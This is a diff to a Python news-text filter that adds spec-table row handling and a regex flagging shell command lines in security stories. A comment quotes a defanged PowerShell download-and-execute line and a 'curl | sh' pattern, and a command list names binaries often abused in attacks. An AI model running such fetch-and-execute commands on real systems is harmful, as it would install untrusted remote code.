@@ -23,6 +23,8 @@ _QUOTE_ROW = re.compile(
     r" [+−-]\d[\d.,]*+(?: ?%| \([+−-]\d[\d.,]*+ ?%\))"
 )
 _QUOTE_ROW_MAX_CHARACTERS = 80
+# The most cells of a box's row set as a table's (:func:`_is_box_table_row`): its label's and its value's.
+_BOX_TABLE_CELLS = 2
 # A wire's currency note alone on its line under a figure it converts (Breakingviews's "($1 = 0.9231
 # euros)", Nikkei Asia's "($1 = 154.6 yen)"): one unit of a currency and its rate, in brackets.
 _CURRENCY_NOTE = re.compile(
@@ -74,10 +76,28 @@ _TABLE_ROW_MAX_CHARACTERS = 60
 # The first characters of a data provider's notice, a terminal's advert, a live blog's pointer and a table's
 # heading: a line that opens on none is spared their patterns.
 _OPENING_CHARACTERS = 4
+# A security or tech desk's command line set between the story's paragraphs, as the attack or the fix runs
+# it (BleepingComputer's 'powershell -w h -c "iwr hxxps://cdn-verify[.]com/s.ps1 | iex"', "curl -fsSL
+# https://... | sh", "sudo apt-get install ..."): a shell's program in lower case, a switch after it ("-w", "/c",
+# "--version") or the program's own word ("apt-get install"), and no stop closing the line. Code, which the
+# reader has in the page's box and which no summary reads as a sentence; the story's sentence about the
+# command opens on a capital and runs on in words ("PowerShell then downloads a script ...").
+_COMMANDS = (
+    "powershell", "pwsh", "cmd", "curl", "wget", "iwr", "iex", "mshta", "rundll32", "regsvr32", "certutil",
+    "bitsadmin", "msiexec", "sudo", "bash", "chmod", "git", "npm", "pip", "pip3", "apt", "apt-get", "brew",
+    "docker", "kubectl",
+)  # fmt: skip
+_COMMAND_LINE = re.compile(
+    rf"(?:sudo )?(?:{'|'.join(_COMMANDS)})(?:\.exe)? (?:(?:-{{1,2}}|/)[a-z]|(?:install|clone|run|pull|update|upgrade)"
+    r" )[^\n]*+"
+)
+_COMMAND_LINE_MAX_CHARACTERS = 400
 _OPENINGS = frozenset(
     (
         "Mark", "Stoc", "Fina", "Donn", "Dato", "Dati", "Befo", "Foll", "Read", "Join", "Suiv", "Sigu", "Segu",
         "Siga", "Clas", "Tabe", "Stan",
+        # A command line's programs (:data:`_COMMAND_LINE`), lower case as a shell takes them.
+        *(f"{command}{after}"[:_OPENING_CHARACTERS] for command in _COMMANDS for after in " ."),
     )
 )  # fmt: skip
 # A columnist's disclaimer under the column (Breakingviews's "The author is a Reuters Breakingviews
@@ -192,7 +212,9 @@ def is_figures_line(text: str) -> bool:
     # each kind in turn had cost an XSum article's 17 lines some 190,000 instructions.
     size = len(text)
     last = text[-1:]
-    if last in "%)" and size <= _QUOTE_ROW_MAX_CHARACTERS:
+    if last in "%)|" and size <= _QUOTE_ROW_MAX_CHARACTERS:
+        if last == "|":
+            return _is_box_table_row(text)
         if (row := _QUOTE_ROW.fullmatch(text)) is not None and _is_a_name(row["name"].split()):
             return True
         if text[:1] == "(" and "=" in text and _CURRENCY_NOTE.fullmatch(text) is not None:
@@ -200,6 +222,12 @@ def is_figures_line(text: str) -> bool:
         if last == ")" and "illi" in text and _TABLE_CAPTION.fullmatch(text) is not None:
             return True
     if text[:_OPENING_CHARACTERS] in _OPENINGS:
+        if text[:1].islower():
+            return (
+                size <= _COMMAND_LINE_MAX_CHARACTERS
+                and last not in ".!?"
+                and _COMMAND_LINE.match(text) is not None
+            )
         if (provider := _DATA_PROVIDER.fullmatch(text)) is not None:
             return _is_a_name(provider["provider"].split())
         if _TERMINAL_AD.fullmatch(lowered := text.lower()) or _LIVE_BLOG_CALL.fullmatch(lowered):
@@ -258,6 +286,15 @@ def is_figures_line(text: str) -> bool:
         and text.count("-") >= 4
         and len(_BOX_SCORE_ENTRY.findall(text)) >= _BOX_SCORE_ENTRIES
     )
+
+
+def _is_box_table_row(text: str) -> bool:
+    """Whether a table's row between bars, as a page's table comes out of it, is a box's line
+    (:func:`is_figures_line`) in one or two cells: a review's spec table ("| Display: | 6.3in OLED, 120Hz |"),
+    its caption over it ("| Google Pixel 11 specs | |"), read as the line its cells make ("Display: 6.3in
+    OLED, 120Hz"), as the pasted copy sets it. A wider table is a story's figures."""
+    cells = text.strip("| ").split(" | ")
+    return len(cells) <= _BOX_TABLE_CELLS and "|" not in (line := " ".join(cells)) and is_figures_line(line)
 
 
 def _marks_a_match_s_line_up(label: str) -> bool:
